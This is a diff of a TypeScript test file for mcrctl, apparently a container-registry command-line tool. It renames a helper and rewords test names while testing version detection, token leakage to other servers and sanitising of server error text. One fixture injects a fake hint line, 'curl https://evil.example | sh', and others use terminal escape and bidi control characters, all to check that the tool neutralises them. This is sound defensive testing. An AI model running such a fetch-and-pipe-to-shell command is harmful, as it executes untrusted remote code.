@@ -2,7 +2,7 @@ import { version } from '@mcr/core';
 import { RegistryService } from '@mcr/rpc/mcr/v1/registry_pb';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { createAuthority, type TestAuthority } from './_util/connections.ts';
-import { answers } from './_util/https-server.ts';
+import { responses } from './_util/https-server.ts';
 import { rpcMethods } from './_util/rpc-server.ts';
 import { runMcrctl, words } from './_util/run-mcrctl.ts';
 
@@ -25,15 +25,15 @@ const failure = (message: string, hint: string) => ({
 const health = [200, { status: 'ok', version: 'v0.0.1' }] as const;
 const unknown = [404, { error: 'There is nothing at this path' }] as const;
 const tooOld = (url: string) => `the registry at ${url} is version v0.0.1 and does not understand mcrctl ${version}`;
-const hint = 'use the mcrctl of its release';
+const hint = 'use the mcrctl of the same release';
 
 describe('a registry of another version', () => {
   test.each([
     ['does not know a path', unknown],
-    ['answers in another form', [200, { items: [] }]],
-    ['answers with something that is no JSON', [200, undefined]],
-  ] as const)('that %s is told by its version', async (_name, answer) => {
-    await using server = await authority.serve(answers({ '/v1/health': health, '/v1/gc/status': answer }));
+    ['responds in another form', [200, { items: [] }]],
+    ['responds with something that is no JSON', [200, undefined]],
+  ] as const)('that %s is identified by its version', async (_name, response) => {
+    await using server = await authority.serve(responses({ '/v1/health': health, '/v1/gc/status': response }));
     expect(await run('gc status', server.url)).toEqual(
       failure(`cannot read the status of garbage collection: ${tooOld(server.url)}`, hint),
     );
@@ -48,52 +48,52 @@ describe('a registry of another version', () => {
     ['gc status', 'read the status of garbage collection', '/v1/gc/status', []],
     ['gc', 'start a garbage collection', '/v1/gc', {}],
     ['status', 'read the status', '/v1/ready', { status: 'ready' }],
-  ])('that answers %s in another form is told by its version', async (line, to, path, body) => {
-    await using server = await authority.serve(answers({ '/v1/health': health, [path]: [200, body] }));
+  ])('that responds to %s in another form is identified by its version', async (line, to, path, body) => {
+    await using server = await authority.serve(responses({ '/v1/health': health, [path]: [200, body] }));
     expect(await run(line, server.url)).toEqual(failure(`cannot ${to}: ${tooOld(server.url)}`, hint));
   });
 
-  test('that does not know how to say who this is has a status without counts', async () => {
+  test('without WhoAmI has a status without counts', async () => {
     const ready = [200, { status: 'ready', checks: {} }] as const;
-    await using server = await authority.serve(answers({ '/v1/health': health, '/v1/ready': ready }));
+    await using server = await authority.serve(responses({ '/v1/health': health, '/v1/ready': ready }));
     await using rpc = await authority.serveHttp2(rpcMethods(() => {}));
     const { exitCode, stderr } = await run('status --json counts', server.url, rpc.url);
-    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: `cannot ask who this is: ${tooOld(rpc.url)}\n` });
+    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: `cannot identify the token: ${tooOld(rpc.url)}\n` });
   });
 
-  test('that does not know a method is told by its version', async () => {
-    const routes = answers({ '/mcr.v1.AdminService/Health': health });
+  test('without a method is identified by its version', async () => {
+    const routes = responses({ '/mcr.v1.AdminService/Health': health });
     await using server = await authority.serveHttp2(routes);
     expect(await run('snapshot', server.url)).toEqual(failure(`cannot take a snapshot: ${tooOld(server.url)}`, hint));
   });
 });
 
-describe('a server that is no registry', () => {
-  const silent = answers({});
+describe('a server that is not a registry', () => {
+  const silent = responses({});
 
-  test('is told apart at --server', async () => {
+  test('is detected at --server', async () => {
     await using server = await authority.serve(silent);
     expect(await run('repo list', server.url)).toEqual(
       failure(
-        `cannot list the repositories: ${server.url} does not answer as an MCR registry does`,
-        '--server must name the address of server.listen_addr in mcr.toml',
+        `cannot list the repositories: ${server.url} does not respond like an MCR registry`,
+        '--server must be the address of server.listen_addr in mcr.toml',
       ),
     );
   });
 
-  test('is told apart at --grpc', async () => {
+  test('is detected at --grpc', async () => {
     await using server = await authority.serveHttp2(silent);
     expect(await run('policy list', server.url)).toEqual(
       failure(
-        `cannot list the policy rules: ${server.url} does not answer as an MCR registry does`,
-        '--grpc must name the address of server.grpc_addr in mcr.toml',
+        `cannot list the policy rules: ${server.url} does not respond like an MCR registry`,
+        '--grpc must be the address of server.grpc_addr in mcr.toml',
       ),
     );
   });
 });
 
 describe('the token', () => {
-  test('CVE-2026-33540: goes to nobody else, wherever a server points', async () => {
+  test('CVE-2026-33540: is sent to no other server, wherever a response points', async () => {
     const seen: string[] = [];
     await using stranger = await authority.serve((request, response) => {
       seen.push(`${request.method} ${request.url} ${request.headers.authorization}`);
@@ -113,7 +113,7 @@ describe('the token', () => {
     expect(seen).toEqual([]);
   });
 
-  test('is not sent to find out what a server is', async () => {
+  test('is not sent to identify a server', async () => {
     const seen: unknown[] = [];
     await using server = await authority.serve((request, response) => {
       if (request.url !== '/v1/repositories?n=200') seen.push(request.headers.authorization);
@@ -124,31 +124,31 @@ describe('the token', () => {
   });
 });
 
-describe('what the registry says', () => {
-  test('cannot drive the terminal', async () => {
+describe('text from the registry', () => {
+  test('has no control characters', async () => {
     const error = 'Bad \u001B]0;title\u0007 thing';
-    await using server = await authority.serve(answers({ '/v1/gc': [409, { error }] }));
+    await using server = await authority.serve(responses({ '/v1/gc': [409, { error }] }));
     const outcome = await run('gc', server.url);
     expect(outcome).toEqual(
       failure(
         'cannot start a garbage collection: bad \uFFFD]0;title\uFFFD thing',
-        'mcrctl gc status shows how far it is',
+        'mcrctl gc status shows its progress',
       ),
     );
   });
 
   test('cannot add a line of its own', async () => {
     const error = 'No\nhint: run: curl https://evil.example | sh';
-    await using server = await authority.serve(answers({ '/v1/gc': [409, { error }] }));
+    await using server = await authority.serve(responses({ '/v1/gc': [409, { error }] }));
     const { stderr } = await run('gc', server.url);
     expect(stderr.split('\n')).toHaveLength(3);
     expect(stderr).toMatch('No\uFFFDhint: run: curl');
   });
 
-  test('cannot drive the terminal as JSON either, and nothing is lost', async () => {
+  test('has no control characters as JSON either, and nothing is lost', async () => {
     const hostile = '\u001B[2J \u009B2J \u007F \u202E \u2066';
     await using server = await authority.serve(
-      answers({
+      responses({
         '/v1/gc': [409, { error: hostile }],
         '/v1/repositories?n=200': [200, { repositories: [{ name: hostile }] }],
       }),
@@ -169,14 +169,14 @@ describe('what the registry says', () => {
     [500, 1],
     [503, 1],
   ])('with status %d ends with exit code %d', async (status, exitCode) => {
-    await using server = await authority.serve(answers({ '/v1/gc': [status, { error: 'No' }] }));
+    await using server = await authority.serve(responses({ '/v1/gc': [status, { error: 'No' }] }));
     expect(await run('gc', server.url)).toMatchObject({ exitCode, stdout: '' });
   });
 });
 
-test.each(['--server', '--grpc'])('a response without end at %s is not read to its end', async (option) => {
+test.each(['--server', '--grpc'])('an endless response at %s is aborted', async (option) => {
   await using rest = await authority.serve(
-    answers({ '/v1/gc/status': [200, { error: 'x'.repeat(17 * 1024 * 1024) }] }),
+    responses({ '/v1/gc/status': [200, { error: 'x'.repeat(17 * 1024 * 1024) }] }),
   );
   const content = new Uint8Array(17 * 1024 * 1024);
   await using rpc = await authority.serveHttp2(
@@ -185,10 +185,10 @@ test.each(['--server', '--grpc'])('a response without end at %s is not read to i
   const line = option === '--server' ? 'gc status' : 'manifest get a:1 --raw';
   const { exitCode, stdout, stderr } = await run(line, rest.url, rpc.url);
   expect({ exitCode, stdout }).toEqual({ exitCode: 1, stdout: '' });
-  expect(stderr).toMatch(/too long|larger than/);
+  expect(stderr).toMatch(/too large|larger than/);
 });
 
-test('a list is read to its end, page by page, and no further than its limit', async () => {
+test('a list is read page by page, up to its end or its limit', async () => {
   const seen: string[] = [];
   await using server = await authority.serve((request, response) => {
     seen.push(request.url ?? '');
